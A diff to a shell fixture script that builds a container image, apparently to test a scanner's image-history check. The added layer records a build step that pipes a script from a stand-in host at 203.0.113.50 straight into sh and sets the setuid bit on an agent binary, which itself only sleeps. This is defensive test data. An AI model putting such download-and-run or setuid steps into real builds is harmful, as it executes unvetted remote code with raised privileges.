@@ -48,9 +48,17 @@ TOML
   printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n' > bundle/rootfs/etc/passwd
   printf '<h1>sysdiag</h1>\n' > bundle/rootfs/var/www/index.html
   printf 'debug=false\n' > bundle/rootfs/etc/sysdiag.conf
-  umoci repack --image img:1.0 bundle >/dev/null
+  umoci repack --image img:1.0 --history.created_by 'COPY rootfs/ / # busybox (static), /etc/passwd, /var/www' bundle >/dev/null
+  # A second layer whose build step downloads and runs a script and sets the setuid bit: what 'history' flags.
+  rm -rf bundle
+  umoci unpack --rootless --image img:1.0 bundle >/dev/null
+  mkdir -p bundle/rootfs/usr/local/bin
+  printf '#!/bin/sh\n# sysdiag agent (installed from http://203.0.113.50/install.sh)\nexec sleep 86400\n' > bundle/rootfs/usr/local/bin/sysdiag-agent
+  chmod 4755 bundle/rootfs/usr/local/bin/sysdiag-agent
+  umoci repack --image img:1.0 \
+    --history.created_by '/bin/sh -c wget -qO- http://203.0.113.50/install.sh | sh && chmod u+s /usr/local/bin/sysdiag-agent' bundle >/dev/null
   umoci config --image img:1.0 --config.entrypoint /bin/sh --config.cmd=-c --config.cmd='sleep 86400' \
-    --history.created_by 'COPY busybox /bin/busybox' >/dev/null
+    --history.created_by '/bin/sh -c #(nop)  CMD ["/bin/sh" "-c" "sleep 86400"]' >/dev/null
   skopeo copy --quiet oci:img:1.0 oci-archive:image.tar:registry.example/sysdiag:1.0
 )
 
